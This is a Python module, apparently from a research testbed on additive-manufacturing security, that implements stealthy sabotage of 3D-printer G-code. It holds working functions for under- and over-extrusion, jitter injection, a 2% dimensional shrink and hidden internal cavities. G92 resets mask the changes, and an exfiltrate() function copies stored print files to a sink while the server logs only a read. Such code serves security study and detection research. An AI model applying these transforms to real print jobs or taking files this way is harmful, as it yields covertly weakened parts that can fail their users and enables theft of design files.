"""Stealthy G-code sabotage transforms.

Every transform is pure: it takes a :class:`GcodeProgram` and returns the
mutated program together with an :class:`AttackAudit` describing exactly
which lines changed.  Only G0/G1/G92 literals are rewritten; M-codes such as
M221/M404/M579 are left untouched.
"""

from __future__ import annotations

import hashlib
import json
import math
from dataclasses import asdict, dataclass, field
from enum import Enum
from pathlib import Path
from typing import Any, MutableMapping

import numpy as np

from .gcode import (
    EmptyBoxError,
    GcodeLine,
    GcodeProgram,
    Interpretation,
    bounding_box,
    build_layer_index,
    interpret,
    layer_of_lines,
    make_line,
    serialize_program,
    total_extrusion,
)

UNDER_EXTRUSION_FACTOR = 0.72  # 4.32 g / 6.03 g
OVER_EXTRUSION_FACTOR = 1.49  # 9.00 g / 6.03 g
STEALTH_SCALE = 0.98


class AttackKind(str, Enum):
    UNDER_EXTRUSION = "under_extrusion"
    OVER_EXTRUSION = "over_extrusion"
    NOISE_INJECTION = "noise_injection"
    DIMENSIONAL_CHANGE = "dimensional_change"
    CAVITY_INSERTION = "cavity_insertion"
    EXFILTRATION = "exfiltration"


class AttackSpecError(ValueError):
    pass


@dataclass(frozen=True)
class Region:
    """Restricts an attack to a half-open line range and/or an inclusive z range.

    ``layers`` selects layer indices (half-open) and is resolved to a z range
    against the program's layer index.
    """

    lines: tuple[int, int] | None = None
    z: tuple[float, float] | None = None
    layers: tuple[int, int] | None = None

    def to_dict(self) -> dict:
        return {k: list(v) for k, v in asdict(self).items() if v is not None}

    @classmethod
    def from_dict(cls, data: dict | None) -> "Region":
        if not data:
            return cls()
        return cls(**{k: tuple(v) for k, v in data.items()})


WHOLE = Region()


@dataclass(frozen=True)
class AttackSpec:
    kind: AttackKind
    factor: float = 1.0
    rate: float = 10.0
    amplitude: float = 0.3
    scale: tuple[float, float, float] = (1.0, 1.0, 1.0)
    z_range: tuple[float, float] | None = None
    seed: int = 0
    region: Region = WHOLE
    extruding_noise: bool = False

    def __post_init__(self):
        if self.factor <= 0:
            raise AttackSpecError("factor must be > 0")
        if self.rate < 0 or self.amplitude < 0:
            raise AttackSpecError("rate and amplitude must be >= 0")
        if any(s <= 0 for s in self.scale):
            raise AttackSpecError("scale components must be > 0")
        if self.z_range is not None and not self.z_range[0] < self.z_range[1]:
            raise AttackSpecError("z_range must satisfy lo < hi")

    def to_dict(self) -> dict:
        data = {
            "kind": self.kind.value,
            "factor": self.factor,
            "rate": self.rate,
            "amplitude": self.amplitude,
            "scale": list(self.scale),
            "z_range": list(self.z_range) if self.z_range else None,
            "seed": self.seed,
            "region": self.region.to_dict(),
            "extruding_noise": self.extruding_noise,
        }
        return data

    @classmethod
    def from_dict(cls, data: dict) -> "AttackSpec":
        data = dict(data)
        kind = AttackKind(data.pop("kind"))
        region = Region.from_dict(data.pop("region", None))
        if "scale" in data:
            data["scale"] = tuple(data["scale"])
        if data.get("z_range") is not None:
            data["z_range"] = tuple(data["z_range"])
        return cls(kind=kind, region=region, **data)

    @classmethod
    def default(cls, kind: AttackKind | str, seed: int = 0, **overrides) -> "AttackSpec":
        kind = AttackKind(kind)
        base: dict[str, Any] = {}
        if kind is AttackKind.UNDER_EXTRUSION:
            base["factor"] = UNDER_EXTRUSION_FACTOR
        elif kind is AttackKind.OVER_EXTRUSION:
            base["factor"] = OVER_EXTRUSION_FACTOR
        elif kind is AttackKind.DIMENSIONAL_CHANGE:
            base["scale"] = (STEALTH_SCALE, STEALTH_SCALE, 1.0)
        base.update(overrides)
        return cls(kind=kind, seed=seed, **base)


@dataclass
class AttackAudit:
    spec: dict
    modified: list[int] = field(default_factory=list)
    inserted: list[int] = field(default_factory=list)
    removed: list[int] = field(default_factory=list)
    touched: list[int] = field(default_factory=list)  # output indices of modified or inserted lines
    extrusion_delta: float = 0.0
    bbox_delta: tuple[float, float, float] | None = None
    digest_before: str = ""
    digest_after: str = ""
    warnings: list[str] = field(default_factory=list)

    @property
    def change_count(self) -> int:
        return len(self.modified) + len(self.inserted) + len(self.removed)

    def to_json(self) -> str:
        data = asdict(self)
        data["change_count"] = self.change_count
        return json.dumps(data, indent=2, sort_keys=True)


def _digest(prog: GcodeProgram) -> str:
    return hashlib.sha256(serialize_program(prog).encode()).hexdigest()


def _build(before: GcodeProgram, pairs: list[tuple[int | None, GcodeLine]], spec: dict,
           warnings: list[str]) -> tuple[GcodeProgram, AttackAudit]:
    """Assemble the output program and its audit from (origin index, line) pairs."""
    after = GcodeProgram(tuple(line for _, line in pairs))
    audit = AttackAudit(spec=spec, warnings=list(warnings))
    seen = set()
    for new_index, (origin, line) in enumerate(pairs):
        if origin is None:
            audit.inserted.append(new_index)
            audit.touched.append(new_index)
            continue
        seen.add(origin)
        if line.to_text() != before.lines[origin].to_text():
            audit.modified.append(origin)
            audit.touched.append(new_index)
    audit.removed = [i for i in range(len(before)) if i not in seen]
    tb, ta = interpret(before), interpret(after)
    audit.extrusion_delta = total_extrusion(ta) - total_extrusion(tb)
    try:
        eb, ea = bounding_box(tb).extents, bounding_box(ta).extents
        audit.bbox_delta = tuple(a - b for a, b in zip(ea, eb))
    except EmptyBoxError:
        audit.bbox_delta = None
    audit.digest_before = _digest(before)
    audit.digest_after = _digest(after) if audit.change_count else audit.digest_before
    return after, audit


def _region_mask(prog: GcodeProgram, trace: Interpretation, region: Region,
                 z_range: tuple[float, float] | None = None) -> list[bool]:
    n = len(prog)
    zs = layer_of_lines(trace, n)
    lo_line, hi_line = region.lines if region.lines else (0, n)
    zr = region.z
    if region.layers is not None:
        index = build_layer_index(trace)
        a, b = region.layers
        chosen = index.layers[a:b]
        zr = (chosen[0].z, chosen[-1].z) if chosen else (math.inf, math.inf)
    ranges = [r for r in (zr, z_range) if r is not None]
    mask = []
    for i in range(n):
        ok = lo_line <= i < hi_line
        for lo, hi in ranges:
            ok = ok and lo - 1e-9 <= zs[i] <= hi + 1e-9
        mask.append(ok)
    return mask


def _rewrite_extrusion(prog: GcodeProgram, mask: list[bool], factor: float,
                       drop: bool) -> tuple[list[tuple[int | None, GcodeLine]], int]:
    """Scale (or drop) E deltas on masked G0/G1 lines.

    In absolute-E mode the rewritten literals drift from the originals; a
    ``G92 E<original>`` is inserted before the next unmasked E move so the
    rest of the program extrudes exactly as before.
    """
    pairs: list[tuple[int | None, GcodeLine]] = []
    abs_e = True
    old_e = 0.0  # logical E per the original literals
    new_e = 0.0  # logical E per the rewritten literals
    touched = 0
    for i, line in enumerate(prog.lines):
        cmd = line.command
        if cmd in ("G90", "M82"):
            abs_e = True
        elif cmd in ("G91", "M83"):
            abs_e = False
        elif cmd == "G92" and line.sub is None:
            value = line.params.get("E")
            if value is not None:
                old_e = new_e = value
            elif not line.params:
                old_e = new_e = 0.0
        value = line.params.get("E") if cmd in ("G0", "G1") else None
        if value is None:
            pairs.append((i, line))
            continue
        delta = value - old_e if abs_e else value
        if mask[i]:
            touched += 1
            if drop:
                new_line = line.with_params(E=None)
                new_delta = 0.0
            else:
                new_delta = delta * factor
                if abs_e:
                    literal = value if (new_e == old_e and new_delta == delta) else new_e + new_delta
                else:
                    literal = new_delta
                new_line = line if literal == value else line.with_params(E=literal)
            pairs.append((i, new_line))
            if abs_e:
                old_e = value
                new_e = new_e + new_delta if new_line is not line else value
            else:
                old_e += delta
                new_e += new_delta
            continue
        if abs_e and new_e != old_e:
            pairs.append((None, make_line("G92", E=old_e)))
            new_e = old_e
        pairs.append((i, line))
        if abs_e:
            old_e = new_e = value
        else:
            old_e += delta
            new_e += delta
    return pairs, touched


def scale_extrusion(prog: GcodeProgram, factor: float, region: Region = WHOLE,
                    spec: AttackSpec | None = None) -> tuple[GcodeProgram, AttackAudit]:
    """Multiply every extrusion delta in ``region`` by ``factor``.

    ``factor < 1`` is under-extrusion, ``factor > 1`` over-extrusion.
    """
    if factor <= 0:
        raise AttackSpecError("factor must be > 0")
    spec = spec or AttackSpec(
        AttackKind.UNDER_EXTRUSION if factor < 1 else AttackKind.OVER_EXTRUSION,
        factor=factor, region=region)
    trace = interpret(prog)
    mask = _region_mask(prog, trace, region)
    pairs, touched = _rewrite_extrusion(prog, mask, factor, drop=False)
    warnings = [] if touched else ["region selects no extruding lines; no-op"]
    if not touched:
        pairs = list(enumerate(prog.lines))
    return _build(prog, pairs, spec.to_dict(), warnings)


def insert_cavity(prog: GcodeProgram, z_lo: float, z_hi: float, region: Region = WHOLE,
                  spec: AttackSpec | None = None) -> tuple[GcodeProgram, AttackAudit]:
    """Turn every E move whose z lies in ``[z_lo, z_hi]`` into a travel move."""
    if not z_lo < z_hi:
        raise AttackSpecError("cavity needs z_lo < z_hi")
    spec = spec or AttackSpec(AttackKind.CAVITY_INSERTION, z_range=(z_lo, z_hi), region=region)
    trace = interpret(prog)
    mask = _region_mask(prog, trace, region, (z_lo, z_hi))
    extruding = {s.line_index for s in trace.states if s.delta_e > 0}
    if not any(mask[i] for i in extruding):
        return _build(prog, list(enumerate(prog.lines)), spec.to_dict(),
                      ["cavity interval intersects no extruding layers; no-op"])
    pairs, _ = _rewrite_extrusion(prog, mask, 0.0, drop=True)
    return _build(prog, pairs, spec.to_dict(), [])


def scale_dimensions(prog: GcodeProgram, scale: tuple[float, float, float],
                     region: Region = WHOLE, pivot: tuple[float, float, float] | None = None,
                     spec: AttackSpec | None = None) -> tuple[GcodeProgram, AttackAudit]:
    """Scale X/Y/Z literals of motion lines in ``region`` about ``pivot``.

    The default pivot is the region's extruded bounding-box center in X/Y and
    z = 0.  Relative-positioning moves have their deltas scaled instead.
    """
    if any(s <= 0 for s in scale):
        raise AttackSpecError("scale components must be > 0")
    spec = spec or AttackSpec(AttackKind.DIMENSIONAL_CHANGE, scale=tuple(scale), region=region)
    trace = interpret(prog)
    mask = _region_mask(prog, trace, region)
    states = {s.line_index: s for s in trace.states}
    if pivot is None:
        pts = []
        for s in trace.states:
            if mask[s.line_index] and s.delta_e > 0:
                ox, oy, oz = s.offsets
                pts.append((s.start[0] - ox, s.start[1] - oy))
                pts.append((s.x - ox, s.y - oy))
        if pts:
            arr = np.asarray(pts)
            cx = (arr[:, 0].min() + arr[:, 0].max()) / 2
            cy = (arr[:, 1].min() + arr[:, 1].max()) / 2
        else:
            cx = cy = 0.0
        pivot = (float(cx), float(cy), 0.0)
    pairs: list[tuple[int | None, GcodeLine]] = []
    touched = 0
    for i, line in enumerate(prog.lines):
        if not (mask[i] and line.command in ("G0", "G1")):
            pairs.append((i, line))
            continue
        s = states[i]
        updates = {}
        for k, axis in enumerate("XYZ"):
            value = line.params.get(axis)
            if value is None or scale[k] == 1.0:
                continue
            if s.absolute_positioning:
                updates[axis] = pivot[k] + scale[k] * (value - pivot[k])
            else:
                updates[axis] = scale[k] * value
        if updates:
            touched += 1
            pairs.append((i, line.with_params(**updates)))
        else:
            pairs.append((i, line))
    warnings = [] if touched or all(s == 1.0 for s in scale) else ["region empty; no-op"]
    return _build(prog, pairs, spec.to_dict(), warnings)


def inject_noise(prog: GcodeProgram, rate: float, amplitude: float, seed: int,
                 region: Region = WHOLE, extruding: bool = False,
                 spec: AttackSpec | None = None) -> tuple[GcodeProgram, AttackAudit]:
    """Insert seeded jitter-and-return move pairs after motion lines.

    ``rate`` counts jitter pairs per 100 motion lines in the region; the
    number of sites is ``round(rate * n / 100)`` (at least one when
    ``rate > 0`` and the region has motion lines).  Each jitter displaces X
    and Y by at most ``amplitude`` and is followed by a move back, so the
    final position and (for non-extruding jitter) the total extrusion are
    unchanged.
    """
    if rate < 0 or amplitude < 0:
        raise AttackSpecError("rate and amplitude must be >= 0")
    spec = spec or AttackSpec(AttackKind.NOISE_INJECTION, rate=rate, amplitude=amplitude,
                              seed=seed, region=region, extruding_noise=extruding)
    trace = interpret(prog)
    mask = _region_mask(prog, trace, region)
    states = {s.line_index: s for s in trace.states}
    candidates = [i for i in range(len(prog)) if mask[i] and prog.lines[i].command in ("G0", "G1")]
    count = 0
    if rate > 0 and candidates:
        count = min(len(candidates), max(1, round(rate * len(candidates) / 100)))
    rng = np.random.default_rng(seed)
    sites = set(rng.choice(len(candidates), size=count, replace=False).tolist()) if count else set()
    chosen = {candidates[k] for k in sites}
    jitter = rng.uniform(-amplitude, amplitude, size=(count, 2)).round(3)
    pairs: list[tuple[int | None, GcodeLine]] = []
    j = 0
    for i, line in enumerate(prog.lines):
        pairs.append((i, line))
        if i not in chosen:
            continue
        s = states[i]
        dx, dy = float(jitter[j, 0]), float(jitter[j, 1])
        j += 1
        cmd = "G1" if extruding else "G0"
        if s.absolute_positioning:
            hx, hy = s.x - s.offsets[0], s.y - s.offsets[1]
            out = {"X": hx + dx, "Y": hy + dy}
            back = {"X": hx, "Y": hy}
        else:
            out = {"X": dx, "Y": dy}
            back = {"X": -dx, "Y": -dy}
        reanchor = None
        if extruding:
            e_step = round(math.hypot(dx, dy) * 0.03, 5)
            if s.absolute_extrusion:
                out["E"] = s.e + e_step
                reanchor = make_line("G92", E=s.e)
            else:
                out["E"] = e_step
        pairs.append((None, make_line(cmd, **out)))
        pairs.append((None, make_line(cmd, **back)))
        if reanchor is not None:
            pairs.append((None, reanchor))
    return _build(prog, pairs, spec.to_dict(), [])


def apply_attack(prog: GcodeProgram, spec: AttackSpec) -> tuple[GcodeProgram, AttackAudit]:
    kind = spec.kind
    if kind in (AttackKind.UNDER_EXTRUSION, AttackKind.OVER_EXTRUSION):
        return scale_extrusion(prog, spec.factor, spec.region, spec=spec)
    if kind is AttackKind.NOISE_INJECTION:
        return inject_noise(prog, spec.rate, spec.amplitude, spec.seed, spec.region,
                            extruding=spec.extruding_noise, spec=spec)
    if kind is AttackKind.DIMENSIONAL_CHANGE:
        return scale_dimensions(prog, spec.scale, spec.region, spec=spec)
    if kind is AttackKind.CAVITY_INSERTION:
        if spec.z_range is None:
            raise AttackSpecError("cavity insertion needs z_range")
        return insert_cavity(prog, spec.z_range[0], spec.z_range[1], spec.region, spec=spec)
    raise AttackSpecError(f"{kind.value} is not a program transform; use exfiltrate()")


@dataclass(frozen=True)
class ExfilEvent:
    timestamp: float
    name: str
    digest: str
    size: int
    sink: str


def exfiltrate(server, name: str, sink: MutableMapping[str, bytes] | Path | str,
               actor: str = "attacker") -> ExfilEvent:
    """Copy a stored file byte-for-byte to ``sink`` (a mapping or a directory).

    The server logs only a read by the attacker; its files are untouched.
    """
    data = server.read_file(name, actor=actor)
    digest = hashlib.sha256(data).hexdigest()
    if isinstance(sink, (str, Path)):
        target = Path(sink)
        target.mkdir(parents=True, exist_ok=True)
        (target / name).write_bytes(data)
        sink_id = str(target)
    else:
        sink[name] = bytes(data)
        sink_id = f"memory:{id(sink):x}"
    event = ExfilEvent(server.clock, name, digest, len(data), sink_id)
    server.annotate(actor, "exfiltrate", {"name": name, "digest": digest, "size": len(data)})
    return event


def load_attack_spec(path: Path | str) -> AttackSpec:
    return AttackSpec.from_dict(json.loads(Path(path).read_text()))

